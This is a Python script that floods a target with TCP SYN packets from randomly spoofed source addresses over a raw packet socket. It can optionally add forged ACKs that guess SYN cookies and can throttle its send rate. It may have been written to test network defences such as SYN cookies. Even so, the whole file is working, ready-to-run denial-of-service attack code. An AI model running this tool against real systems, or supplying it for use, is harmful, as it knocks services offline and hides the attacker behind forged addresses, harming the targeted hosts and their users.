#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""SYN flood from random spoofed sources over a packet socket (faster than scapy's sendp).
Usage: syn_flood.py IFACE DST_IP DST_MAC PORT COUNT [SRC_NET/LEN [ACKS [RATE]]]
Sources are random in 11.0.0.0-99.255.255.255, or in SRC_NET/LEN when given. ACKS (default 0):
after each SYN, that many ACKs from random sources with random sequence and acknowledgment
numbers, each one guessing a SYN cookie. RATE (default unlimited): SYNs per second. With
SRC_NET given, prints one JSON line of figures at the end."""
import json
import os
import signal
import time
import random
import socket
import struct
import sys


def csum(b):
    if len(b) & 1:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s & 0xffff) + (s >> 16)
    s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def main():
    iface, dst, dmac, port, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
    lo, hi = 0x0b000000, 0x63ffffff
    if len(sys.argv) > 6:
        net, plen = sys.argv[6].split("/")
        lo = struct.unpack("!I", socket.inet_aton(net))[0] & ~((1 << (32 - int(plen))) - 1) & 0xffffffff
        hi = lo + (1 << (32 - int(plen))) - 1
    acks = int(sys.argv[7]) if len(sys.argv) > 7 else 0
    rate = float(sys.argv[8]) if len(sys.argv) > 8 else 0
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    smac = s.getsockname()[4]
    eth = bytes.fromhex(dmac.replace(":", "")) + smac + b"\x08\x00"
    d = socket.inet_aton(dst)
    opts = b"\x02\x04\x05\xb4\x01\x03\x03\x07"  # MSS 1460, NOP, WS 7
    rnd = random.Random(int.from_bytes(os.urandom(4), "big"))
    sent = {"syn": 0, "ack": 0}
    t0 = time.time()

    def send(flags, ack, opts):
        src = struct.pack("!I", rnd.randint(lo, hi))
        sport = rnd.randint(1024, 65535)
        tcp = struct.pack("!HHIIBBHHH", sport, port, rnd.getrandbits(32), ack,
                          (5 + len(opts) // 4) << 4, flags, 64240, 0, 0) + opts
        c = csum(src + d + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, d)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        try:
            s.send(eth + ip + tcp)
            return 1
        except (BlockingIOError, OSError):
            return 0

    def report(*_):
        if len(sys.argv) > 6:
            print(json.dumps({"mode": "synflood", "syns": sent["syn"], "forged_acks": sent["ack"],
                              "secs": round(time.time() - t0, 1)}), flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, report)
    for i in range(count):
        sent["syn"] += send(0x02, 0, opts)
        for _ in range(acks):
            sent["ack"] += send(0x10, rnd.getrandbits(32), b"")
        if rate and i % 32 == 31:
            ahead = t0 + (i + 1) / rate - time.time()
            if ahead > 0:
                time.sleep(ahead)
    report()


if __name__ == "__main__":
    main()
